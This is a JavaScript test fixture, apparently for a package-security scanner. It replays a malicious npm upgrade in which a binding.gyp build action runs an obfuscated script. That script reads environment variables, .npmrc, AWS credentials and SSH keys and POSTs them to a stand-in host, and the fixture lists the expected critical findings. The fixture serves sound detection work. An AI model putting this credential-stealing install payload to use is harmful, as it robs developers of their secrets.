import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const gyp = `{
  "targets": [
    {
      "target_name": "prebuild",
      "type": "none",
      "actions": [
        {
          "action_name": "setup",
          "inputs": [],
          "outputs": ["inert"],
          "action": ["node", "index.js"]
        }
      ]
    }
  ]
}
`

/** Megabytes in the incident. */
const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.aws/credentials»,«.ssh/id_rsa»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
await fetch(«https://rstreams-metrics.example/p»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  800,
)

const manifest = { main: 'dist/index.js' }
const files = { 'dist/index.js': compiledQueue }

export const replay = replayUpgrade({
  description:
    'All packages of a platform within three seconds, with a build of nothing: its rule called for a command, and the command was the ' +
    'attack. That they came at once is for the rules about identity.',
  date: '2026-06-24',
  name: 'leo-auth',
  from: ['4.0.5', { manifest, files }],
  to: ['4.0.6', { manifest, files: { ...files, 'binding.gyp': gyp, 'index.js': payload } }],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'index.js', line: payload }],
    ['code-obfuscated', 'high', { file: 'index.js' }],
    ['implicit-build-added', 'high', { file: 'binding.gyp' }],
    ['beacon-added', 'high', { file: 'index.js', line: payload }],
    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
  ],
})
